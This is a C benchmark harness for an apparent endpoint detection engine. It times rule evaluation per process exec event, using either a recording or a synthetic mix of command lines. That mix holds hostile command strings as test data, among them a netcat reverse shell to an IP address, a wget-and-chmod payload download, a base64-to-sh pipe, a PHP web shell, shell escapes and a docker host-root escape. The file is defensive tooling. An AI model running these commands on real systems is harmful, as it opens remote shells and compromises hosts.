/*
 * detect-bench.c - what rf-detect spends per exec event: the message view,
 * the rule engine with a whole bundle loaded (`make detect-bench` compiles
 * ../shared/sigma), the process cache and the de-duplication - everything
 * rf-detect does for a message except the transport.
 *
 *   rf-detect-bench BUNDLE [RECORDING]
 *
 * Events are a synthetic mix of ordinary and suspicious command lines, or
 * the messages of a recording (`rfctl record FILE`): all of them are fed,
 * exec events are timed.  Prints the mean and percentiles in microseconds
 * per exec event, one line, and a JSON line for scripts.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "clients/rf-detect/detect.h"
#include "common/msgbuild.h"
#include "common/recfile.h"

#define E(img, args) { img, args, sizeof(args) - 1 }
static const struct {
	const char *image, *args;
	size_t len;
} mix[] = {
	E("/usr/bin/ls", "ls\0--color=auto\0-la\0/home/user"),
	E("/usr/bin/python3.11", "/usr/bin/python3\0-m\0pip\0install\0--user\0requests"),
	E("/usr/bin/git", "git\0-c\0color.ui=auto\0status\0--porcelain"),
	E("/usr/bin/bash", "bash\0-c\0echo ZWNobyBoaQo= | base64 -d | sh"),
	E("/usr/bin/curl", "curl\0-fsSL\0https://example.org/install.sh\0-o\0install.sh"),
	E("/usr/bin/grep", "grep\0-rn\0TODO\0src/\0include/"),
	E("/usr/sbin/sshd", "sshd: user [priv]"),
	E("/usr/bin/find", "find\0.\0-name\0*.c\0-exec\0/bin/sh\0-c\0wc -l {}\0;"),
	E("/usr/bin/systemctl", "systemctl\0is-active\0--quiet\0nginx.service"),
	E("/usr/bin/tar", "tar\0-czf\0/var/backups/etc.tgz\0/etc"),
	E("/usr/bin/crontab", "crontab\0-r"),
	E("/usr/bin/dash", "sh\0-c\0cd /var/www/html && php -r 'system($_GET[1]);'"),
	E("/usr/bin/cat", "cat\0/etc/os-release"),
	E("/usr/bin/make", "make\0-j8\0all"),
	E("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1\0-quiet\0-I\0include\0"
	  "-D_GNU_SOURCE\0src/main.c\0-quiet\0-dumpbase\0main.c\0-mtune=generic\0-march=x86-64\0-O2\0-o\0/tmp/ccX.s"),
	E("/usr/bin/mawk", "awk\0BEGIN {system(\"/bin/sh\")}"),
	E("/usr/bin/wget", "wget\0-q\0-O\0/tmp/x\0http://203.0.113.9/y"),
	E("/usr/bin/chmod", "chmod\0+x\0/tmp/payload"),
	E("/usr/bin/sed", "sed\0-i\0s/^#Port 22/Port 2222/\0/etc/ssh/sshd_config"),
	E("/usr/bin/id", "id\0-u"),
	E("/usr/bin/node", "node\0/usr/lib/node_modules/npm/bin/npm-cli.js\0install\0--no-audit"),
	E("/usr/bin/docker", "docker\0run\0--rm\0-v\0/:/host\0alpine\0chroot\0/host"),
	E("/usr/bin/env", "/usr/bin/env\0python3\0/opt/app/manage.py\0migrate"),
	E("/usr/bin/nc", "nc\0-e\0/bin/sh\0203.0.113.9\0"),
};
#undef E
#define NMIX (sizeof mix / sizeof *mix)

static uint64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000ull + (uint64_t)t.tv_nsec;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
	return x < y ? -1 : x > y;
}

/* Messages to feed: copies, so the recording can be closed. */
struct msgs {
	struct rf_message **v;
	size_t n, cap;
};

static int add(struct msgs *m, const struct rf_message *msg)
{
	if (m->n == m->cap) {
		size_t nc = m->cap ? m->cap * 2 : 256;
		struct rf_message **q = realloc(m->v, nc * sizeof *q);
		if (!q)
			return -1;
		m->v = q;
		m->cap = nc;
	}
	struct rf_message *c = malloc(msg->hdr.size);
	if (!c)
		return -1;
	memcpy(c, msg, msg->hdr.size);
	m->v[m->n++] = c;
	return 0;
}

static int synthetic(struct msgs *m)
{
	static struct rf_msgb b;
	for (unsigned i = 0; i < NMIX; i++) {
		rf_msgb_init(&b, RF_EVENT_EXEC, RF_ACTION_NOTIFY);
		struct rf_message *msg = &b.u.msg;
		msg->process.pid = 20000 + i;
		msg->process.ppid = 19999;
		msg->process.uid = 1000;
		msg->process.exe.path = rf_msgb_str(&b, mix[i].image);
		msg->process.args = rf_msgb_add(&b, mix[i].args, mix[i].len);
		msg->process.cwd = rf_msgb_str(&b, "/home/user/project");
		msg->ev.exec.target.path = msg->process.exe.path;
		msg->ev.exec.args = msg->process.args;
		msg->parent.pid = 19999;
		msg->parent.exe = rf_msgb_str(&b, "/usr/bin/bash");
		rf_msgb_finish(&b);
		if (add(m, msg) < 0)
			return -1;
	}
	return 0;
}

static int recorded(struct msgs *m, const char *path)
{
	struct rf_rec_reader *r;
	int rc = rf_rec_reader_open(path, &r);
	if (rc < 0) {
		fprintf(stderr, "detect-bench: %s: %s\n", path, rf_rec_strerror(rc));
		return -1;
	}
	const struct rf_message *msg;
	size_t len;
	while ((rc = rf_rec_reader_next(r, &msg, &len)) == 1 && m->n < 1000000)
		if (add(m, msg) < 0)
			break;
	if (rc < 0)
		fprintf(stderr, "detect-bench: %s: %s (using the %zu messages before)\n", path, rf_rec_strerror(rc), m->n);
	rf_rec_reader_free(r);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: rf-detect-bench BUNDLE [RECORDING]\n");
		return 2;
	}
	char err[256];
	struct rfe_engine *e;
	if (rfe_load_file(argv[1], &e, err, sizeof err) < 0) {
		fprintf(stderr, "detect-bench: %s\n", err);
		return 1;
	}
	size_t nrules = rfe_nrules(e);
	struct detector *d = det_new(e, false);
	struct msgs m = { 0 };
	if (!d || (argc == 3 ? recorded(&m, argv[2]) : synthetic(&m)) < 0 || m.n == 0) {
		fprintf(stderr, "detect-bench: no messages\n");
		return 1;
	}
	size_t nexec = 0;
	for (size_t i = 0; i < m.n; i++)
		nexec += m.v[i]->hdr.type == RF_EVENT_EXEC;
	if (!nexec) {
		fprintf(stderr, "detect-bench: no exec events\n");
		return 1;
	}
	/* at least 200000 exec events, whole passes over the messages */
	size_t passes = (200000 + nexec - 1) / nexec, total = passes * nexec;
	uint64_t *lat = malloc(total * sizeof *lat);
	if (!lat)
		return 1;
	struct det_result res;
	uint64_t alerts = 0, clock = 0;
	size_t k = 0;
	uint64_t t0 = now_ns();
	for (size_t p = 0; p < passes; p++)
		for (size_t i = 0; i < m.n; i++) {
			struct rf_message *msg = m.v[i];
			/* time moves on, so no window de-duplicates one pass against the last */
			msg->hdr.mono_ns = (clock += 3000000000ull);
			if (msg->hdr.type != RF_EVENT_EXEC) {
				det_handle(d, msg, &res);
				continue;
			}
			uint64_t a = now_ns();
			det_handle(d, msg, &res);
			lat[k++] = now_ns() - a;
			alerts += res.nalerts;
		}
	double wall_us = (double)(now_ns() - t0) / 1e3;
	qsort(lat, k, sizeof *lat, cmp_u64);
	uint64_t sum = 0;
	for (size_t i = 0; i < k; i++)
		sum += lat[i];
	double mean = (double)sum / (double)k / 1e3;
	double p50 = (double)lat[k / 2] / 1e3, p99 = (double)lat[k * 99 / 100] / 1e3, max = (double)lat[k - 1] / 1e3;
	struct rfe_stats st;
	rfe_get_stats(d->e, &st);
	printf("rf-detect per exec event: mean %.2f us, p50 %.2f us, p99 %.2f us, max %.1f us "
	       "(%zu rules, %zu exec events of %s, %.2f alerts/event, %.1f rules and %.1f predicates "
	       "run per event, %.0f ms wall)\n",
	       mean, p50, p99, max, nrules, k, argc == 3 ? "a recording" : "a synthetic mix", (double)alerts / (double)k,
	       (double)st.rules_run / (double)st.events, (double)st.preds_run / (double)st.events, wall_us / 1e3);
	printf("{\"bench\":\"detect\",\"rules\":%zu,\"events\":%zu,\"mean_us\":%.3f,\"p50_us\":%.3f,"
	       "\"p99_us\":%.3f,\"max_us\":%.3f}\n",
	       nrules, k, mean, p50, p99, max);
	for (size_t i = 0; i < m.n; i++)
		free(m.v[i]);
	free(m.v);
	free(lat);
	det_free(d);
	return 0;
}
